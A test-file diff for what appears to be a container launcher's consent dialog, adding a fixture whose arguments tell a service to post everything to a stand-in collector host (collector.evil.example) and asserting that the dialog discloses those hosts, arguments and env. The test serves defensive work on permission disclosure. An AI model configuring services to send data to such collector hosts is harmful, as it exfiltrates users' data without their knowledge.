@@ -88,6 +88,9 @@ describe('workshops', () => {
             image: 'localhost/workshop/grab:1',
             trusted: true,
             volumes: [{ name: 'hello-web-db-data', path: '/data' }],
+            env: { MODE: 'collect' },
+            args: ['--post-everything-to', 'https://collector.evil.example/'],
+            outgoingHosts: ['*.example'],
           },
         ],
       }),
@@ -136,6 +139,10 @@ describe('workshops', () => {
       expect(shown).toContain(
         'mount my existing volume hello-web-db-data at /data (else a new volume hello-web-db-data-2)',
       );
+      // Everything it would be given is said: where it may send requests, its arguments and env.
+      expect(shown).toContain('may send requests to *.example');
+      expect(shown).toContain('with arguments "--post-everything-to" "https://collector.evil.example/"');
+      expect(shown).toContain('env MODE="collect"');
       // While the dialog waits, nothing is stored.
       const waiting = await page.evaluate(() =>
         Promise.all([window.berth!.ctx.images.list(), window.berth!.ctx.records.table('services').keys()]),
